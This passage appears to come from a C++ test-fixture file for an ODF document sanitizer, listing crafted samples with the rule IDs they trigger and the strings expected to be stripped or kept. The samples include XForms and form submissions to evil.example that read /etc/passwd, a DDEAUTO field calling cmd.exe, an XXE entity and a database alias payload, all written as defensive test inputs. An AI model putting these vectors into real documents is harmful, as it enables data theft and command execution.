                 "<style:style style:name=\"ce1\" style:family=\"table-cell\"><style:map "
                 "style:condition=\"of:cell-content-is-between(1,10)\" style:apply-style-name=\"Good\"/>"
                 "</style:style>")
             .build();
       }},
      {"odf/database-field",
       "a.odt",
       false,
       {"ODF-017"},
       {"database-", "Addresses"},
       {"Yamada"},
       [] {
         return text(
             p("<text:database-display text:database-name=\"Addresses\" text:table-name=\"t\" "
               "text:column-name=\"c\">Yamada</text:database-display><text:database-next "
               "text:database-name=\"Addresses\"/>"));
       }},
      {"odf/database",
       "a.odb",
       true,
       {"ARC-020"},
       {},
       {},
       [] { return B::odt(p("x")).mimetype("application/vnd.oasis.opendocument.base").build(); }},
      {"odf/database-part",
       "a.odt",
       false,
       {"ODF-017"},
       {"PAYLOAD"},
       {"kept"},
       [] { return with_part("database/script", "", "CREATE ALIAS PAYLOAD"); }},
  };
}

std::vector<Sample> form_samples() {
  return {
      {"odf/form-submit",
       "a.odt",
       false,
       {"ODF-015"},
       {"evil.example", "SELECT"},
       {"kept", "form:checkbox"},
       [] {
         return form(href("http://evil.example/") + " form:method=\"post\" form:command=\"SELECT 1\"",
                     "<form:checkbox form:name=\"c\" form:id=\"c1\" form:label=\"yes\"/>");
       }},
      {"odf/form-control-service",
       "a.odt",
       false,
       {"ODF-015"},
       {"evil.Service", "generic-control"},
       {"kept"},
       [] {
         return form("",
                     "<form:generic-control form:control-implementation=\"ooo:evil.Service\"/><form:text "
                     "form:name=\"t\" form:id=\"t1\" form:control-implementation=\"ooo:evil.Service\"/>");
       }},
      {"odf/form-properties",
       "a.odt",
       false,
       {"ODF-015"},
       {"DefaultControl"},
       {"kept", "form:text"},
       [] {
         return form("",
                     "<form:text form:name=\"t\" form:id=\"t1\"><form:properties><form:property "
                     "form:property-name=\"DefaultControl\" office:value-type=\"string\" "
                     "office:string-value=\"evil\"/></form:properties></form:text>");
       }},
      {"odf/form-file",
       "a.odt",
       false,
       {"ODF-015"},
       {"form:file"},
       {"kept"},
       [] { return form("", "<form:file form:name=\"f\" form:id=\"f1\"/>"); }},
      {"odf/form-good",
       "a.odt",
       false,
       {},
       {},
       {"form:checkbox", "draw:control", "yes"},
       [] {
         return text(
             "<office:forms form:automatic-focus=\"false\"><form:form form:name=\"F\"><form:checkbox "
             "form:name=\"c\" form:id=\"c1\" form:label=\"yes\" form:current-state=\"checked\"/></form:form>"
             "</office:forms>" +
             p("<draw:control draw:control=\"c1\" svg:width=\"1cm\" svg:height=\"1cm\"/>"));
       }},
      {"odf/xforms",
       "a.odt",
       false,
       {"ODF-016"},
       {"evil.example", "xforms:model"},
       {"kept"},
       [] {
         return text(
             "<office:forms><xforms:model id=\"m\"><xforms:instance src=\"file:///etc/passwd\"/>"
             "<xforms:submission id=\"s\" action=\"http://evil.example/\" method=\"post\"/></xforms:model>"
             "</office:forms>" +
             p("kept"));
       }},
  };
}

std::vector<Sample> package_rows() {
  return {
      {"odf/settings-printer",
       "a.odt",
       false,
       {"ODF-019"},
       {"QkxPQg", "Printer-7F"},
       {"kept", "AddFrameOffsets"},
       [] {
         return B::odt(p("kept"))
             .settings(item("PrinterSetup", "base64Binary", "QkxPQg==") + item("PrinterName", "string", "Printer-7F") +
                       item("AddFrameOffsets", "boolean", "true"))
             .build();
       }},
      {"odf/settings-links",
       "a.ods",
       false,
       {},
       {">1<"},
       {"LinkUpdateMode", ">0<"},
       [] { return B::ods(sheet("<table:table-cell/>")).settings(item("LinkUpdateMode", "short", "1")).build(); }},
      {"odf/settings-unknown",
       "a.odt",
       false,
       {"ODF-019"},
       {"EvilItem"},
       {"kept"},
       [] { return B::odt(p("kept")).settings(item("EvilItem", "string", "x")).build(); }},
      {"odf/settings-good",
       "a.odt",
       false,
       {},
       {},
       {"AddFrameOffsets", "ViewAreaTop"},
       [] {
         return B::odt(p("kept"))
             .settings(item("AddFrameOffsets", "boolean", "true") + item("ViewAreaTop", "int", "-120"))
             .build();
       }},
      {"odf/manifest-unlisted",
       "a.odt",
       false,
       {"ODF-021"},
       {"PAYLOAD", "hidden.bin"},
       {"kept"},
       [] { return with_part("hidden.bin", ""); }},
      {"odf/manifest-dangling",
       "a.odt",
       false,
       {"ODF-021"},
       {"ghost.xml"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .list("<manifest:file-entry manifest:full-path=\"ghost.xml\" manifest:media-type=\"text/xml\"/>")
             .build();
       }},
      {"odf/manifest-type",
       "a.odt",
       false,
       {"ODF-021"},
       {"text/evil"},
       {"kept"},
       [] {
         return changed([](ZipFile& file) {
           string& manifest = file.members.back().data;
           manifest.replace(manifest.find("opendocument.text"), 17, "opendocument.text-template");
         });
       }},
      {"odf/encrypted",
       "a.odt",
       true,
       {"ODF-021"},
       {},
       {},
       [] {
         return B::odt(p("x"))
             .list(
                 "<manifest:file-entry manifest:full-path=\"y.xml\" manifest:media-type=\"text/xml\">"
                 "<manifest:encryption-data manifest:checksum-type=\"SHA1/1K\" manifest:checksum=\"x\"/>"
                 "</manifest:file-entry>")
             .build();
       }},
      {"odf/encrypted-openpgp",
       "a.odt",
       true,
       {"ODF-022"},
       {},
       {},
       [] { return with_part("encrypted-package", "application/vnd.oasis.opendocument.text"); }},
      {"odf/signature",
       "a.odt",
       false,
       {"ODF-022"},
       {"documentsignatures", "PAYLOAD"},
       {"kept"},
       [] { return with_part("META-INF/documentsignatures.xml", ""); }},
      {"odf/macro-signature",
       "a.odt",
       false,
       {"ODF-022"},
       {"macrosignatures"},
       {"kept"},
       [] { return with_part("META-INF/macrosignatures.xml", ""); }},
      {"odf/thumbnail",
       "a.odt",
       false,
       {"ODF-023"},
       {"Thumbnails"},
       {"kept"},
       [] { return with_part("Thumbnails/thumbnail.png", "image/png", small_png()); }},
      {"odf/versions",
       "a.odt",
       false,
       {"ODF-023"},
       {"Versions", "PAYLOAD"},
       {"kept"},
       [] { return with_part("Versions/Version1", "application/vnd.oasis.opendocument.text"); }},
      {"odf/rdf",
       "a.odt",
       false,
       {"ODF-023"},
       {"evil.example", "manifest.rdf"},
       {"kept"},
       [] {
         return with_part("manifest.rdf", "application/rdf+xml",
                          "<r:RDF xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><r:Description "
                          "r:about=\"http://evil.example/\"/></r:RDF>");
       }},
      {"odf/rdf-plain",
       "a.odt",
       false,
       {},
       {"manifest.rdf"},
       {"kept"},
       [] {
         return with_part("manifest.rdf", "application/rdf+xml",
                          "<r:RDF xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><r:Description "
                          "r:about=\"content.xml\"><r:type r:resource=\"http://docs.oasis-open.org/ns/office/1.2/meta/"
                          "odf#ContentFile\"/></r:Description></r:RDF>");
       }},
      {"odf/properties",
       "a.odt",
       false,
       {"ODF-023"},
       {"Sato"},
       {"kept", "LibreOffice"},
       [] {
         return B::odt(p("kept"))
             .meta("<meta:generator>LibreOffice/7.4</meta:generator><meta:initial-creator>Sato</meta:initial-creator>")
             .build();
       }},
      {"odf/property-field",
       "a.odt",
       false,
       {"ODF-023"},
       {},
       {"2007-Aug-07", "text:fixed"},
       [] { return text(p("<text:modification-date>2007-Aug-07</text:modification-date>")); }},
      {"odf/hidden",
       "a.odt",
       false,
       {"ODF-025"},
       {},
       {"kept", "secret words"},
       [] {
         return text(p("kept<text:hidden-text text:condition=\"ooow:1\" text:string-value=\"secret words\" "
                       "text:is-hidden=\"true\"/>") +
                     "<text:section text:name=\"S\" text:display=\"none\">" + p("x") + "</text:section>");
       }},
      {"odf/hidden-rows",
       "a.ods",
       false,
       {"ODF-025"},
       {},
       {"collapse"},
       [] {
         return calc(
             "<table:table table:name=\"S\"><table:table-row table:visibility=\"collapse\">"
             "<table:table-cell/></table:table-row></table:table>");
       }},
      {"odf/foreign-text",
       "a.odt",
       false,
       {"OOXML-023", "ODF-026", "ODF-006"},
       {"foreign", "EVIL", "LOST", "STYLE"},
       {"<text:p>one two three <text:s/>four five</text:p>"},
       [] {
         return B::odt(p("one <z:a xmlns:z=\"urn:foreign\">two <z:b z:c=\"EVIL\">three <text:s/>"
                         "<text:script>EVIL</text:script></z:b><xhtml:b xmlns:xhtml=\"http://www.w3.org/1999/xhtml\">"
                         "STYLE</xhtml:b></z:a><foreign>four</foreign> five"))
             .root_attributes(" xmlns:y=\"urn:foreign:2\"")
             .automatic("<y:style>LOST</y:style>")
             .build();
       }},
      {"odf/rdfa",
       "a.odt",
       false,
       {"ODF-026"},
       {"xhtml:about", "evil.example"},
       {"kept"},
       [] { return text("<text:p xhtml:about=\"http://evil.example/\" xhtml:property=\"x\">kept</text:p>"); }},
      {"odf/fieldmark-dde",
       "a.odt",
       false,
       {"ODF-026"},
       {"DDEAUTO", "UNHANDLED"},
       {"result"},
       [] {
         return text(
             p("<field:fieldmark-start text:name=\"\" "
               "field:type=\"vnd.oasis.opendocument.field.UNHANDLED\"><field:param "
               "field:name=\"vnd.oasis.opendocument.field.CODE\" field:value=\"DDEAUTO c:/cmd.exe\"/>"
               "</field:fieldmark-start>result<field:fieldmark-end/>"));
       }},
      {"odf/fieldmark-good",
       "a.odt",
       false,
       {},
       {},
       {"FORMCHECKBOX", "Checkbox_Checked", "fieldmark-end"},
       [] {
         return text(
             p("<field:fieldmark text:name=\"c\" "
               "field:type=\"vnd.oasis.opendocument.field.FORMCHECKBOX\"><field:param "
               "field:name=\"Checkbox_Checked\" field:value=\"true\"/></field:fieldmark>"
               "<field:fieldmark-start text:name=\"t\" field:type=\"vnd.oasis.opendocument.field.FORMTEXT\"/>"
               "x<field:fieldmark-end/>"));
       }},
      {"odf/dtd",
       "a.odt",
       true,
       {"ODF-027"},
       {},
       {},
       [] {
         return changed([](ZipFile& file) {
           string& content = file.members[1].data;
           content.insert(content.find('\n') + 1, "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");
         });
       }},
      {"odf/encoding",
       "a.odt",
       true,
       {"ODF-027"},
       {},
       {},
       [] {
         return changed([](ZipFile& file) {
           string& content = file.members[1].data;
           content.replace(content.find("UTF-8"), 5, "UTF-7");
         });
       }},
      {"odf/mimetype-deflated",
       "a.odt",
       false,
       {"ODF-029"},
       {},
       {"kept"},
       [] { return changed([](ZipFile& file) { file.members[0].method = 8; }); }},
      {"odf/mimetype-late",
       "a.odt",
       false,
       {"ODF-029"},
       {},
       {"kept"},
       [] { return changed([](ZipFile& file) { std::swap(file.members[0], file.members[1]); }); }},
      {"odf/kind-lies",
       "a.odt",
       true,
       {"ODF-029"},
       {},
       {},
       [] { return B::ods(sheet("")).mimetype("application/vnd.oasis.opendocument.text").build(); }},
      {"odf/prefix",
       "a.odt",
       false,
       {"OOXML-025"},
       {"PAYLOAD"},
       {"kept"},
       [] { return changed([](ZipFile& file) { file.trailing = "PAYLOAD"; }); }},
  };
}

std::vector<Sample> all_rows() {
  std::vector<Sample> all;
  for (const auto& area : {code_samples, link_samples, object_samples, data_samples, form_samples, package_rows}) {
    for (Sample& sample : area())
      all.push_back(std::move(sample));
  }
  return all;
}

std::vector<Sample> disguise_all(std::deque<string>& names) {
  std::vector<Sample> out;
  for (const Sample& sample : odf_samples()) {
    // Clean ones and broken ones have no second way of being so; a flat file is no package.
    if (sample.refused || sample.ids.empty() || sample.file == "a.fodt" || sample.name == "odf/prefix") continue;
    names.push_back(string(sample.name) + "~disguised");
    Sample twin = sample;
    twin.name = names.back();
    twin.make = [make = sample.make] { return disguise(make()); };
    out.push_back(std::move(twin));
  }
  return out;
}

}  // namespace

std::span<const Sample> odf_samples() {
  static const std::vector<Sample> samples = all_rows();
  return samples;
}

std::span<const Sample> odf_disguised_samples() {
  static std::deque<string> names;
  static const std::vector<Sample> samples = disguise_all(names);
  return samples;
}

}  // namespace mugai::testing
